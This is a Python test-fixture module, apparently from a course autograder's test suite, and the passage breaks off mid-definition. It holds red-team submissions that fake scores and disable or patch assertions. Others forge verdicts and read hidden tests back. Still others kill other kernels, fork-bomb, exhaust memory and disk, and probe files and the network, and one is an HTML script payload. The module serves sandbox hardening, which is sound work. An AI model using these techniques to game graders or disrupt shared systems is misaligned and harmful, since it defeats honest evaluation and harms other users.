"""Red-team submissions (project issue 26): attacks on the grader, each named by its state, and
the most each may score. tests/grading_runs/test_red_team.py grades them all in ONE run.

An outside red team found every attack here against the previous grader. They are aimed at the
design the grader now claims (book/using-the-course.md states the threat model):

- each grading kernel runs in a bubblewrap sandbox: a PID namespace of its own, a uid of its own
  (``course_grading.sandbox.UID_BASE`` and up), no network, nothing visible but ``/usr``, the
  Python environment and course_utils, a private size-capped ``/tmp``; memory and process limits
  hold for its whole process tree, and nothing it started outlives it;
- the assignment's test cells are run by a trusted referee inside the kernel, not by IPython's
  ``run_cell``, and a test's outcome is only whether it raised: nothing the submission prints,
  displays or sets (tags, outputs, hooks, patched libraries, lying types) decides a grade;
- no source or name of a hidden test is reachable from student code, during grading or in its
  feedback, and feedback runs no script;
- no submission stops the run or costs another submission its points.

Every fixture is built from the *current* student copy and solution (``adversarial.answered``
for exercise 1, :func:`answered_4` for exercise 4). An attack's own answers are wrong ones
(``adversarial.WRONG``) unless its entry says otherwise, so what it may score is what its honest
work is worth, usually 0. A probe that answers right only if the sandbox stopped it, and correct
work that an earlier grader zeroed, must get exactly full marks. Students are graded sorted by
name, two at a time: each ``attack-NN-...`` is followed by ``attack-NN-...-then-clean``, a
correct submission of the same exercise, which must get full marks whatever the attack before
it (or beside it, in the other job) did. Exercise 4 imports Keras and trains, so it is used only
where an attack needs Keras.
"""

from __future__ import annotations

import ast
import functools
import json
import re
import tempfile
import textwrap
from dataclasses import dataclass
from pathlib import Path

import nbformat

from tests.grading_runs.adversarial import (
    ASSIGNMENT,
    GRADEBOOK_SOCKET_PROBE,
    NOTEBOOK,
    WRONG,
    _blocked_only,
    answered,
    student_copy,
)
from tests.support import REPO, answer_cells, read_notebook, solution_source

EX1 = ASSIGNMENT  # "01-concepts", 10 points, parts as in adversarial.PARTS
EX4 = "04-baseline-mlp"  # 10 points
PARTS_4 = ["part-1-build-model", "part-2-compile", "part-3-train", "part-4-accuracy",
           "part-5-learning-curves"]
THEN_CLEAN = "-then-clean"
MARK = "READBACK" + "-LEAK"  # printed by a read-back attack before whatever it found
LINGER_S = 1200  # how long an attack's process lives if it escapes: past the end of the run
# + the grader's home and the course; the sandbox's /dev/shm is a private folder of its own
# (writable, gone with the kernel), so writing there harms nobody: test_red_team checks the
# host's /dev/shm instead
WRITE_TARGETS = ("/run/lock", "/var/tmp")
NESTING = 100_000
FILLER_CELLS = 50_000
FILLER_BYTES = 19 * 2**20  # the many-cells notebook stays under the pre-flight's 20 MiB


@dataclass(frozen=True)
class Allowed:
    """What a submission may score of 10: at most ``score``, its honest work's worth;
    ``exact``: exactly that; ``reason``: and the score table must say why."""

    assignment: str
    score: float
    exact: bool = False
    reason: bool = False


ATTACKS: dict[str, Allowed] = {
    # 1. metadata: skip-execution on every test cell of the untouched copy; raises-exception
    "attack-01-skip-execution-tags": Allowed(EX1, 0),
    "attack-02-raises-exception-tags": Allowed(EX1, 0),
    # 2. an execute_result (nbgrader's partial score) emitted while a test runs
    "attack-03-displayhook-thread": Allowed(EX1, 0),
    "attack-04-displayhook-run-cell-hooks": Allowed(EX1, 0),
    "attack-05-displayhook-aliases": Allowed(EX1, 0),
    # 3. every cell that asserts anything rewritten to `pass`, through aliases of the shell
    "attack-06-transformer-via-shell-self": Allowed(EX1, 0),
    "attack-07-transformer-via-exit-ip": Allowed(EX1, 0),
    "attack-08-transformer-via-getattr": Allowed(EX1, 0),
    "attack-09-ast-transformer": Allowed(EX1, 0),
    "attack-10-pre-execute-rewrites-cell": Allowed(EX1, 0),
    # 4. wrong answers as arrays and numbers that agree with every check
    "attack-11-lying-arrays-and-floats": Allowed(EX1, 0),
    # 5. the checks patched through aliases a static check missed
    "attack-12-patch-via-list-item": Allowed(EX1, 0),
    "attack-13-patch-via-setattr-alias": Allowed(EX1, 0),
    "attack-14-patch-via-sys-modules": Allowed(EX1, 0),
    "attack-15-patch-via-vars": Allowed(EX1, 0),
    # 6. a trace function that jumps over every assert and raise
    "attack-16-trace-jumps-over-checks": Allowed(EX1, 0),
    # 7. the hidden tests read back (right answers: the leak is what the test looks for)
    "attack-17-reads-back-history": Allowed(EX1, 10),
    "attack-18-records-caller-frames": Allowed(EX1, 10),
    # beyond the list: from inside a test, the referee's own signer found in a frame
    # above (its `publish` and the test's `nonce`) vouches for the test before it fails
    "attack-19-forges-verdict-from-caller-frames": Allowed(EX1, 0),
    # 8. harm to the others (a-e), and probes that answer right only if blocked (f-h)
    "attack-20-setsid-daemon-kills-kernels": Allowed(EX1, 0),
    "attack-21-thread-and-process-hog": Allowed(EX1, 0),
    "attack-22-fork-bomb": Allowed(EX1, 0),
    "attack-23-memory-hog-children": Allowed(EX1, 0),
    "attack-24-disk-hog": Allowed(EX1, 0),
    "attack-25-writes-outside-sandbox": Allowed(EX1, 10, exact=True),
    "attack-26-reads-outside-sandbox": Allowed(EX1, 10, exact=True),
    "attack-27-opens-network-connections": Allowed(EX1, 10, exact=True),
    # 9. the run itself: rejected, or graded 0 with a reason, and the run goes on
    "attack-28-deeply-nested-json": Allowed(EX1, 0, exact=True, reason=True),
    "attack-29-deeply-nested-expression": Allowed(EX1, 0, exact=True, reason=True),
    "attack-30-fifty-thousand-cells": Allowed(EX1, 0, exact=True, reason=True),
    # 10. script in an output (right answers)
    "attack-31-script-in-html-output": Allowed(EX1, 10, exact=True),
    # 11. correct work that the old tamper check zeroed
    "attack-32-capture-magic-correct": Allowed(EX1, 10, exact=True),
    # exercise 4: count_params patched on keras.Model for a model over the limit; __call__ and
    # predict patched to look images up; a float that agrees with every check. Parts 2, 3 and 5
    # are right: 6 at most
    "attack-33-keras-class-patches": Allowed(EX4, 6),
    # exercise 4: hidden names (_log_odds, _x, ...) read back; parts 1 and 5 right: 4 at most
    "attack-34-reads-back-hidden-names": Allowed(EX4, 4),
    # exercise 4: `if "history" not in globals():` around the solution's fit
    "attack-35-history-guard-correct": Allowed(EX4, 10, exact=True),
}

# the one table: every attack, and after each the correct submission that must keep full marks
EXPECTED: dict[str, Allowed] = {
    **ATTACKS,
    **{name + THEN_CLEAN: Allowed(a.assignment, 10, exact=True) for name, a in ATTACKS.items()},
}

READS_BACK = ("attack-17-reads-back-history", "attack-34-reads-back-hidden-names")
RECORDS_FRAMES = "attack-18-records-caller-frames"
PROBES = ("attack-25-writes-outside-sandbox", "attack-26-reads-outside-sandbox",
          "attack-27-opens-network-connections")
SCRIPT_OUTPUT = "attack-31-script-in-html-output"


# --- what must stay out of reach ------------------------------------------------------------

@dataclass(frozen=True)
class HiddenTests:
    """What of an assignment's hidden tests no submission may reach: their lines (whitespace
    collapsed, longer than 12 characters), the names they bind and their string constants of
    16 characters or more, each only where neither the student copy nor a visible part of the
    solution has it."""

    lines: tuple[str, ...]
    names: tuple[str, ...]
    strings: tuple[str, ...]


HIDDEN_BLOCK = re.compile(r"### BEGIN HIDDEN TESTS\n(.*?)### END HIDDEN TESTS", flags=re.DOTALL)
# names IPython itself binds in the learner's namespace (`_`, `_i`, `_i3`, `_oh`, ...)
IPYTHON_NAMES = re.compile(r"_+|_i+|_i\d+|_\d+|_(oh|ih|dh|exit_code)")


def squash(text: str) -> str:
    return " ".join(text.split())


def mentions(text: str, name: str) -> bool:
    """Whether ``name`` occurs in ``text`` as a whole identifier."""
    return re.search(rf"(?<![\w]){re.escape(name)}(?![\w])", text) is not None


@functools.cache
def hidden_tests(assignment: str) -> HiddenTests:
    """The hidden tests of ``assignment``'s solution, as :class:`HiddenTests`."""
    solution = "\n".join(c.source for c in read_notebook("solutions", assignment).cells)
    blocks = HIDDEN_BLOCK.findall(solution)
    public = "\n".join([HIDDEN_BLOCK.sub("", solution),
                        *(c.source for c in read_notebook("notebooks", assignment).cells)])
    public_lines = {squash(line) for line in public.splitlines()}
    lines = {squash(line) for block in blocks for line in block.splitlines()}
    names: set[str] = set()
    strings: set[str] = set()
    for block in blocks:
        try:
            tree = ast.parse(textwrap.dedent(block))
        except SyntaxError:
            names |= set(re.findall(r"\b(_[A-Za-z]\w*)\s*=(?!=)", block))
            continue
        for node in ast.walk(tree):
            if isinstance(node, ast.Name) and isinstance(node.ctx, ast.Store):
                names.add(node.id)
            elif isinstance(node, ast.FunctionDef | ast.ClassDef):
                names.add(node.name)
            elif isinstance(node, ast.arg):
                names.add(node.arg)
            elif isinstance(node, ast.alias):
                names.add(node.asname or node.name.split(".")[0])
            elif isinstance(node, ast.Constant) and isinstance(node.value, str):
                strings.add(node.value.strip())
    return HiddenTests(
        # a hidden line that a public one contains ("for x in y:" before a comment) is public
        lines=tuple(sorted(line for line in lines - public_lines if len(line) > 12
                           and not any(line in public_line for public_line in public_lines))),
        names=tuple(sorted(n for n in names if n.startswith("_") and not n.startswith("__")
                           and not IPYTHON_NAMES.fullmatch(n) and not mentions(public, n))),
        strings=tuple(sorted(s for s in strings if len(s) >= 16 and s not in public)))


def traces(course: Path, token: str, home: Path | None = None) -> list[Path]:
    """What the write probe and the disk hog left where the grader or others can see it."""
    marker = f"red-team-{token}.txt"
    places = [Path(folder) / marker
              for folder in (*WRITE_TARGETS, "/dev/shm", home or Path.home(), course)]
    scratch = Path(tempfile.gettempdir())
    fills = [*course.rglob("red-team-fill-*"), *scratch.glob("red-team-fill-*"),
             *scratch.glob("*/red-team-fill-*")]
    return [path for path in places if path.exists()] + fills


# --- exercise 4 and cell helpers ------------------------------------------------------------

def answered_4(**sources: str) -> nbformat.NotebookNode:
    """Exercise 4's student copy with every part solved, except the grade_ids given (as in
    ``adversarial.answered``: ``part_1_build_model=...``)."""
    notebook = read_notebook("notebooks", EX4)
    cells = answer_cells(notebook)
    for grade_id in PARTS_4:
        cells[grade_id].source = sources.get(grade_id.replace("-", "_"),
                                             solution_source(EX4, grade_id))
    return notebook


def unanswered_4(grade_id: str) -> str:
    """The stub of exercise 4's student copy for ``grade_id`` (raises NotImplementedError)."""
    return answer_cells(read_notebook("notebooks", EX4))[grade_id].source


def _wrong(**sources: str) -> nbformat.NotebookNode:
    """Exercise 1 with every part answered wrongly (adversarial.WRONG), except those given."""
    return answered(**{**WRONG, **sources})


def _then(answer: str, code: str) -> str:
    """An answer cell: ``answer``, then the attack's ``code``."""
    return answer.strip() + "\n\n\n" + textwrap.dedent(code).strip() + "\n"


def _first(code: str, answer: str) -> str:
    """An answer cell: the attack's ``code``, then ``answer``."""
    return textwrap.dedent(code).strip() + "\n\n\n" + answer.strip() + "\n"


def _test_cells(notebook: nbformat.NotebookNode) -> list[nbformat.NotebookNode]:
    return [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade")
            and not c.metadata["nbgrader"].get("solution")]


def _index(notebook: nbformat.NotebookNode, grade_id: str) -> int:
    return next(i for i, c in enumerate(notebook.cells)
                if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _tagged(notebook: nbformat.NotebookNode, tag: str) -> nbformat.NotebookNode:
    for cell in _test_cells(notebook):
        cell.metadata["tags"] = [tag]
    return notebook


# --- 2. execute_results while a test runs ---------------------------------------------------

DISPLAYHOOK_THREAD = r'''
import sys
import threading
import time


def _award_points():
    """An execute_result of 2 in whatever cell runs now: nbgrader read it as the cell's score."""
    while True:
        try:
            sys.displayhook(2)
        except Exception:
            pass
        time.sleep(0.02)


threading.Thread(target=_award_points, daemon=True).start()
'''

DISPLAYHOOK_RUN_CELL_HOOKS = r'''
import sys


def _award_points(*args):
    sys.displayhook(2)


get_ipython().events.register("pre_run_cell", _award_points)
get_ipython().events.register("post_run_cell", _award_points)
'''

DISPLAYHOOK_ALIASES = r'''
import threading
import time
from sys import displayhook as _d

_emit = [__import__("sys")][0].displayhook


def _award_points():
    while True:
        for _hook in (_d, _emit):
            try:
                _hook(2)
            except Exception:
                pass
        time.sleep(0.02)


threading.Thread(target=_award_points, daemon=True).start()
'''

# --- 3. cells rewritten before they run -----------------------------------------------------

NEUTRALISE = r'''
def _neutralise(lines):
    """Any cell that asserts anything runs as `pass`."""
    return ["pass\n"] if any("assert" in line for line in lines) else lines
'''

TRANSFORMERS = {
    "shell-self": "_ip = get_ipython.__self__\n"
                  "_ip.input_transformers_cleanup.append(_neutralise)\n",
    "exit-ip": "exit._ip.input_transformers_post.append(_neutralise)\n"
               "quit._ip.input_transformers_cleanup.append(_neutralise)\n",
    "getattr": "getattr(globals()['get_ipython'](), 'input_transformers_post')"
               ".append(_neutralise)\n",
}

AST_TRANSFORMER = r'''
import ast


class _Blank(ast.NodeTransformer):
    """A cell with an assert statement or an assert_... call runs as `pass`."""

    def visit_Module(self, node):
        if any(isinstance(n, ast.Assert)
               or (isinstance(n, ast.Attribute) and n.attr.startswith("assert"))
               for n in ast.walk(node)):
            return ast.Module(body=[ast.Pass(lineno=1, col_offset=0, end_lineno=1,
                                             end_col_offset=4)], type_ignores=[])
        return node


[quit][0]._ip.ast_transformers.append(_Blank())
'''

PRE_EXECUTE_REWRITE = r'''
import ctypes
import sys


def _rewrite_next_cell():
    """Before each cell: the cell about to run, if it asserts, becomes `pass` (the local of
    run_cell_async that holds it is changed), and the transformer is put back for the next."""
    frame = sys._getframe(1)
    while frame is not None and "transformed_cell" not in frame.f_code.co_varnames:
        frame = frame.f_back
    if frame is not None and "assert" in (frame.f_locals.get("transformed_cell") or ""):
        frame.f_locals["transformed_cell"] = "pass\n"
        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
    if _neutralise not in exit._ip.input_transformers_post:
        exit._ip.input_transformers_post.append(_neutralise)


exit._ip.events.register("pre_execute", _rewrite_next_cell)
'''

# --- 4. lying arrays and numbers ------------------------------------------------------------

AGREEABLE = r'''
class _Agreeable(np.ndarray):
    """An array that agrees with every check: allclose, isclose, array_equal, ==, <, ..."""

    def __array_function__(self, func, types, args, kwargs):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "array_equal", "array_equiv"):
            return True
        if name == "isclose":
            shape = np.broadcast_shapes(np.shape(args[0]), np.shape(args[1]))
            return np.ones(shape, dtype=bool)
        return super().__array_function__(func, types, args, kwargs)

    def _yes(self, other):
        return np.ones(np.broadcast_shapes(self.shape, np.shape(other)), dtype=bool)

    def _no(self, other):
        return np.zeros(np.broadcast_shapes(self.shape, np.shape(other)), dtype=bool)

    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = _yes
    __ne__ = _no

    def __bool__(self):
        return True


def _agreeable(values):
    return np.array(values, dtype=float).view(_Agreeable)
'''

LYING_FLOAT = r'''
class _Claim(float):
    """A number that agrees with every comparison and absorbs all arithmetic."""

    def _yes(self, *other):
        return True

    def _no(self, *other):
        return False

    def _same(self, *other):
        return self

    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = _yes
    __ne__ = _no
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = _same
    __truediv__ = __rtruediv__ = __abs__ = __neg__ = __pos__ = _same

    def __float__(self):
        return self

    def __hash__(self):
        return float.__hash__(self)
'''

LIARS = {  # exercise 1's parts, answered wrongly with _Agreeable arrays and _Claim numbers
    "part_1_relu_sigmoid": AGREEABLE + "\n" + LYING_FLOAT + r'''

def relu(z):
    return _agreeable(z)  # wrong: z itself


def sigmoid(z):
    return _agreeable(np.zeros(np.shape(z)))  # wrong: 0 everywhere
''',
    "part_2_softmax": r'''def softmax(z):
    return _agreeable(np.zeros(np.shape(z)))  # wrong: 0 everywhere
''',
    "part_3_dense_forward": r'''def dense_forward(x, weights, bias, activation=None):
    return _agreeable(np.zeros((np.shape(x)[0], np.shape(weights)[1])))  # wrong: 0 everywhere
''',
    "part_4_backward": r'''def backward(x, y_onehot, w1, b1, w2, b2):
    return tuple(_agreeable(np.zeros(np.shape(p))) for p in (w1, b1, w2, b2))  # wrong: 0
''',
    "part_5_gradient_check": r'''def numerical_gradient(f, theta, eps=1e-5):
    return _agreeable(np.zeros(np.shape(theta)))  # wrong: 0 everywhere


def max_relative_error(analytic, numerical):
    return _Claim(0.5)  # wrong: a number that agrees with every check


numerical_grads = tuple(_agreeable(np.zeros(np.shape(p)))
                        for p in (w1_check, b1_check, w2_check, b2_check))
backward_error = _Claim(0.5)
''',
}

# --- 5. the checks patched through aliases --------------------------------------------------

PATCHES = {
    "list-item": r'''
[np][0].testing.assert_allclose = lambda *a, **k: None
[np][0].allclose = lambda *a, **k: True
[np][0].array_equal = lambda *a, **k: True
''',
    "setattr-alias": r'''
_put = setattr
_put(np.testing, "assert_allclose", lambda *a, **k: None)
_put(np, "allclose", lambda *a, **k: True)
_put(np, "array_equal", lambda *a, **k: True)
''',
    "sys-modules": r'''
[__import__('os').sys.modules][0]['numpy'].allclose = lambda *a, **k: True
[__import__('os').sys.modules][0]['numpy'].array_equal = lambda *a, **k: True
[__import__('os').sys.modules][0]['numpy.testing'].assert_allclose = lambda *a, **k: None
''',
    "vars": r'''
vars(np)['allclose'] = lambda *a, **k: True
vars(np)['array_equal'] = lambda *a, **k: True
vars(np.testing)['assert_allclose'] = lambda *a, **k: None
''',
}

# --- 6. trace functions ---------------------------------------------------------------------

TRACE = r'''
import linecache
import sys
import threading


def _skip_checks(frame, event, arg):
    """Jump over every line that could fail a test: assert, raise, np.testing.assert_..."""
    if event == "line":
        text = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()
        if text.startswith(("assert", "raise", "np.testing.assert")):
            line = frame.f_lineno
            for ahead in range(1, 15):
                try:
                    frame.f_lineno = line + ahead
                    break
                except ValueError:
                    continue
    return _skip_checks


def _keep_tracing(frame, event, arg):
    """A profile function that puts the tracer back whenever something removes it."""
    if sys.gettrace() is None:
        sys.settrace(_skip_checks)


for _install in (lambda: sys.settrace(_skip_checks), lambda: threading.settrace(_skip_checks),
                 lambda: sys.setprofile(_keep_tracing)):
    try:
        _install()
    except Exception as _error:
        print("refused:", type(_error).__name__, _error)
'''

# --- 7. hidden tests read back --------------------------------------------------------------

READBACK = r'''

# --- what the kernel may still hold of the tests, printed so that it reaches the feedback
import dis
import inspect
import linecache
import os
import sys

_rb_mark = "READBACK" + "-LEAK"
_rb_hidden = HIDDEN_NAMES
_rb_shell = get_ipython()
_rb_spaces = [globals(), _rb_shell.user_ns, vars(sys.modules["__main__"])]
for _rb_name in _rb_hidden:
    for _rb_space in _rb_spaces:
        if _rb_name in _rb_space:
            _rb_value = _rb_space[_rb_name]
            print(_rb_mark, _rb_name, "=", repr(_rb_value)[:300])
            if inspect.isfunction(_rb_value):
                dis.dis(_rb_value)
                try:
                    print(inspect.getsource(_rb_value))
                except (OSError, TypeError):
                    pass
            break
try:
    import gc

    for _rb_object in gc.get_objects():
        if inspect.isfunction(_rb_object) and _rb_object.__name__ in _rb_hidden:
            print(_rb_mark, "alive:", _rb_object.__name__)
            dis.dis(_rb_object)
except Exception as _rb_error:
    print("gc unreadable:", type(_rb_error).__name__)
_rb_dumps = {
    "In": lambda: In, "_ih": lambda: _ih, "Out": lambda: Out, "_oh": lambda: _oh,
    "input_hist_raw": lambda: _rb_shell.history_manager.input_hist_raw,
    "input_hist_parsed": lambda: _rb_shell.history_manager.input_hist_parsed,
    "linecache": lambda: {k: "".join(v[2]) for k, v in list(linecache.cache.items())
                          if len(v) > 2 and not os.path.isfile(k)},
}
for _rb_what, _rb_get in _rb_dumps.items():
    try:
        _rb_found = _rb_get()
        _rb_found = _rb_found.values() if isinstance(_rb_found, dict) else _rb_found
        print(f"--- {_rb_what}:")
        for _rb_item in list(_rb_found)[:300]:
            print(str(_rb_item)[:5000])
    except Exception as _rb_error:
        print(_rb_what, "unreadable:", type(_rb_error).__name__)
try:
    %history -n
except Exception as _rb_error:
    print("%history unreadable:", type(_rb_error).__name__)
'''

RECORDER = r'''
import inspect

_rb_frames_seen = []


def relu(z):
    """Element-wise max(0, z); and a note of the frames that called it, and what they hold."""
    if len(_rb_frames_seen) < 40:
        try:
            for _rb_info in inspect.stack(context=3)[1:5]:
                _rb_frame = _rb_info.frame
                _rb_frames_seen.append({
                    "where": f"{_rb_info.filename}:{_rb_info.lineno} in {_rb_info.function}",
                    "context": _rb_info.code_context,
                    "texts": [v[:5000] for v in _rb_frame.f_locals.values()
                              if isinstance(v, str) and len(v) > 40]
                    if _rb_frame.f_code.co_name != "<module>" else [],
                    "constants": [c for c in _rb_frame.f_code.co_consts if isinstance(c, str)],
                    "names": sorted(n for n in _rb_frame.f_globals
                                    if n.startswith("_") and not n.startswith("__"))[:200],
                })
        except Exception as _rb_error:
            _rb_frames_seen.append(f"stack unreadable: {type(_rb_error).__name__}")
    return np.maximum(z, 0.0)
'''

RECORDS_PRINTED = r'''
# --- what relu saw of the code that called it (the tests), printed into the feedback
for _rb_kind in ("texts", "constants", "context", "where", "names"):
    for _rb_record in _rb_frames_seen:
        if isinstance(_rb_record, dict):
            print(_rb_kind, ":", _rb_record[_rb_kind])
        elif _rb_kind == "texts":
            print(_rb_record)
'''

VOUCH = r'''
import sys


def _vouch():
    """Called from inside a test: if a frame above holds the referee's signer and the test's
    nonce, publish a passing verdict before the test gets to fail."""
    frame = sys._getframe(1)
    while frame is not None:
        found = frame.f_locals
        sign, nonce = found.get("publish"), found.get("nonce")
        if callable(sign) and isinstance(nonce, str):
            try:
                sign(nonce, True)
            except Exception:
                pass
            return
        frame = frame.f_back
'''

# --- 8. harm to the others ------------------------------------------------------------------

LINEAGE = r'''
import os


def _rb_parent(pid):
    with open(f"/proc/{pid}/stat") as file:
        return int(file.read().rsplit(")", 1)[1].split()[1])


# this kernel, its ancestors, and its sandbox's first process (PID 1: bubblewrap's, or the
# placeholder that a warm kernel joins; its parent, the zygote's keeper, is outside)
_rb_own, _rb_pid = {1}, os.getpid()
while _rb_pid > 0 and _rb_pid not in _rb_own:
    _rb_own.add(_rb_pid)
    try:
        _rb_pid = _rb_parent(_rb_pid)
    except (OSError, ValueError, IndexError):
        break
'''

DAEMON = r'''# red-team-daemon: outlives its kernel if it can, kills every other kernel it reaches
import glob
import os
import signal
import sys
import time

kernel, lifetime, linger = int(sys.argv[1]), float(sys.argv[2]), float(sys.argv[3])
start = time.monotonic()
try:
    with open(f"/proc/{kernel}/cmdline", "rb") as file:
        words = file.read().split(b"\0")
    mine = os.path.realpath(words[words.index(b"-f") + 1].decode())
except (OSError, ValueError, IndexError):
    mine = ""
tried = set()
patterns = ["/tmp/kernel*.json", "/tmp/*/kernel*.json", "/proc/*/root/tmp/*/kernel*.json",
            "/run/user/*/jupyter/runtime/kernel-*.json",
            "/root/.local/share/jupyter/runtime/kernel-*.json",
            "/home/*/.local/share/jupyter/runtime/kernel-*.json"]
while time.monotonic() - start < lifetime:  # other kernels start beside and after this one
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) in (os.getpid(), kernel):
            continue
        try:
            with open(f"/proc/{name}/cmdline", "rb") as file:
                command = file.read()
        except OSError:
            continue
        if b"red-team" not in command and (b"python" in command or b"jupyter" in command):
            try:
                os.kill(int(name), signal.SIGKILL)
            except OSError:
                pass
    for pattern in patterns:
        for path in glob.glob(pattern):
            if path in tried or os.path.realpath(path) == mine:
                continue
            tried.add(path)
            try:  # shut the other kernel down through its own connection file
                from jupyter_client import BlockingKernelClient

                client = BlockingKernelClient(connection_file=path)
                client.load_connection_file()
                client.start_channels()
                client.shutdown()
                client.stop_channels()
            except Exception:
                pass
    time.sleep(0.1)
time.sleep(max(0.0, linger - (time.monotonic() - start)))
'''

LAUNCH_DAEMONS = r'''
import os
import subprocess
import sys

_rb_daemon = [sys.executable, "-c", DAEMON_SOURCE, str(os.getpid()), "60", "LINGER",
              "red-team-daemon"]
# one daemon in a session of its own (setsid) ...
subprocess.Popen(_rb_daemon, start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
# ... and one by a double fork: its parent exits at once, so it belongs to no kernel
_rb_child = os.fork()
if _rb_child == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, _rb_daemon)
    finally:
        os._exit(0)
os.waitpid(_rb_child, 0)
'''

POLL = r'''
import signal
import time

_rb_killed = set()
_rb_until = time.monotonic() + 8
while time.monotonic() < _rb_until:  # another kernel may start beside this one: wait for it
    for _rb_entry in os.listdir("/proc"):
        if not _rb_entry.isdigit() or int(_rb_entry) in _rb_own:
            continue
        try:
            with open(f"/proc/{_rb_entry}/cmdline", "rb") as _rb_file:
                _rb_command = _rb_file.read()
        except OSError:
            continue
        if b"python" in _rb_command and b"red-team" not in _rb_command:
            try:
                os.kill(int(_rb_entry), signal.SIGKILL)
                _rb_killed.add(_rb_entry)
            except OSError:
                pass
    time.sleep(0.2)
print("processes killed from this kernel:", len(_rb_killed))
'''

HOG = r'''
import os
import threading
import time

_rb_threads = _rb_processes = 0
_rb_stuck = set()
while len(_rb_stuck) < 2 and _rb_threads + _rb_processes < 4000:
    if "threads" not in _rb_stuck:
        try:
            threading.Thread(target=time.sleep, args=(LINGER,), daemon=True).start()
            _rb_threads += 1
        except Exception:  # RuntimeError: can't start new thread; MemoryError
            _rb_stuck.add("threads")
    if "processes" not in _rb_stuck:
        try:
            if os.fork() == 0:
                try:
                    time.sleep(LINGER)
                finally:
                    os._exit(0)
            _rb_processes += 1
        except OSError:  # BlockingIOError: the process limit
            _rb_stuck.add("processes")
print(f"left running: {_rb_threads} threads, {_rb_processes} processes")
'''

BOMB_CHILD = r'''# red-team-bomb: forks until the deadline, keeps its slots a while, then exits
import os
import sys
import time

deadline = time.monotonic() + float(sys.argv[1])
while time.monotonic() < deadline:
    try:
        os.fork()
    except OSError:
        time.sleep(0.05)
time.sleep(float(sys.argv[2]))
'''

MEMORY_CHILD = r'''# red-team-memory: holds 1.5 GiB, then sleeps
import sys
import time

hog = b"x" * (1536 * 2**20)
time.sleep(float(sys.argv[1]))
'''

SPAWN = r'''
import subprocess
import sys
import time

_rb_children = [subprocess.Popen([sys.executable, "-c", CHILD_SOURCE, ARGUMENTS],
                                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                 stderr=subprocess.DEVNULL, start_new_session=True)
                for _ in range(COPIES)]
time.sleep(5)  # let them grow
print("children still running:", sum(child.poll() is None for child in _rb_children))
'''

DISK_HOG = r'''
import os

_rb_chunk = b"\0" * (8 * 2**20)
_rb_filled = {}
for _rb_folder in ("/tmp", os.getcwd()):
    for _rb_index in range(3):
        _rb_path = os.path.join(_rb_folder, f"red-team-fill-{_rb_index}.bin")
        _rb_filled[_rb_path] = 0
        try:
            with open(_rb_path, "wb") as _rb_file:
                while _rb_filled[_rb_path] < 200 * 2**20:
                    _rb_file.write(_rb_chunk)
                    _rb_filled[_rb_path] += len(_rb_chunk)
        except OSError as _rb_error:
            print(_rb_path, "stopped:", type(_rb_error).__name__)
print({path: size // 2**20 for path, size in _rb_filled.items()}, "MiB written")
'''

WRITES = r'''
from pathlib import Path

_rb_written = []
for _rb_folder in TARGETS:
    try:
        (Path(_rb_folder) / FILENAME).write_text("written by a submission\n")
        _rb_written.append(_rb_folder)
    except OSError as _rb_error:
        print("blocked:", _rb_folder, type(_rb_error).__name__)
_blocked = not _rb_written
if _rb_written:
    print("LEAK: student code wrote a file in", ", ".join(_rb_written))
'''

READS = LINEAGE + r'''
from pathlib import Path

_rb_seen = []
for _rb_file in SOLUTIONS:
    try:
        _rb_seen.append(f"{_rb_file}: {len(Path(_rb_file).read_text())} characters")
    except OSError as _rb_error:
        print("blocked:", _rb_file, type(_rb_error).__name__)
try:
    _rb_homes = sorted(os.listdir("/home"))
except OSError as _rb_error:
    _rb_homes = []
    print("blocked: /home", type(_rb_error).__name__)
if _rb_homes:
    _rb_seen.append("/home holds " + ", ".join(_rb_homes))
_rb_others = []
for _rb_entry in os.listdir("/proc"):
    if not _rb_entry.isdigit() or int(_rb_entry) in _rb_own:
        continue
    try:
        _rb_command = Path(f"/proc/{_rb_entry}/cmdline").read_bytes().replace(b"\0", b" ")
    except OSError:
        continue
    if _rb_command.strip():
        _rb_others.append(_rb_entry + ": " + _rb_command.decode(errors="replace")[:80])
if _rb_others:
    _rb_seen.append("other processes: " + "; ".join(_rb_others[:5]))
else:
    print("blocked: no process outside this kernel is visible")
_blocked = not _rb_seen
if _rb_seen:
    print("LEAK: student code saw", " | ".join(_rb_seen))
'''

NETWORK = r'''
import socket

_rb_reached = []
# the machine's usual ports and the test's own listener; what /proc/net/tcp lists inside the
# sandbox is the kernel's own network namespace (its own sockets, which it may reach)
_rb_ports = {5432, 22, 80, 443, 631, 8000, 8888, LISTENER_PORT}
for _rb_host in ("127.0.0.1", "::1"):
    for _rb_port in sorted(_rb_ports)[:200]:
        try:
            socket.create_connection((_rb_host, _rb_port), timeout=1).close()
            _rb_reached.append(f"{_rb_host}:{_rb_port}")
        except OSError:
            pass
try:
    socket.create_connection(("1.1.1.1", 53), timeout=2).close()
    _rb_reached.append("1.1.1.1:53")
except OSError:
    pass
_target = GRADEBOOK_SOCKET
try:
    GRADEBOOK_PROBE
    _rb_reached.append(_target)
except OSError as _rb_error:
    print("blocked: the gradebook's socket", type(_rb_error).__name__)
_blocked = not _rb_reached
if _rb_reached:
    print("LEAK: student code reached", ", ".join(_rb_reached))
else:
    print("blocked: no connection")
'''

# --- 10. script in an output ----------------------------------------------------------------

SCRIPT_OUTPUT_CODE = r'''
from IPython.display import HTML, display

# split so that the page shows no such text in this cell's source, only in its output
display(HTML('<scr' + 'ipt>document.title="pwned"</scr' + 'ipt>'
             '<img src=x on' + 'error="alert(1)">'))
'''

# --- exercise 4 -----------------------------------------------------------------------------

TOO_BIG_MODEL = r'''
def build_model():
    """The lesson's 784-256-128-10 network: 235,146 parameters, over the limit of 150,000."""
    return keras.Sequential([
        keras.Input(shape=(784,)),
        keras.layers.Dense(256, activation="relu"),
        keras.layers.Dense(128, activation="relu"),
        keras.layers.Dense(10, activation="softmax"),
